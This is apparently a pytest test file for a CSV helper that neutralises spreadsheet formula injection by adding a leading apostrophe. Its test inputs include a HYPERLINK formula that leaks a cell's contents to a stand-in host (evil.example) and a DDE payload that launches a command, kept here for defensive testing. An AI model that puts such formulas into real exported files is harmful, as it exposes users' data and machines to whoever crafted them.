"""Every CSV the project writes goes through `kernel.spreadsheet.csv_lines`: text a spreadsheet
would run as a formula gets a leading apostrophe, numbers we write as numbers stay numbers."""

import csv
import io

import pytest

from kernel.spreadsheet import csv_lines, spreadsheet_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =HYPERLINK(x)",
        "\u00a0=HYPERLINK(x)",
        " \t@SUM(A1)",
        "+31 6 1234 =HYPERLINK(x)",
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Sanne", "a=b", "", "Sanne @home", " hello", "+31612345678", "+31 (0)6-1234 5678"])
def test_plain_text_and_phone_numbers_stay_as_they_are(text):
    assert spreadsheet_cell(text) == text


def test_numbers_we_write_stay_numbers():
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(2.5) == 2.5 and spreadsheet_cell(None) == ""
    line = "".join(csv_lines([[1, -3, 0.25, None, "=1+1"]]))
    assert list(csv.reader(io.StringIO(line))) == [["1", "-3", "0.25", "", "'=1+1"]]


def test_no_other_module_writes_csv_itself():
    """A CSV written beside `csv_lines` would skip the defusing."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not path.is_relative_to(root / "tests")
        and ".venv" not in path.parts
        and ("csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text())
    ]
    assert writers == ["kernel/spreadsheet.py"]
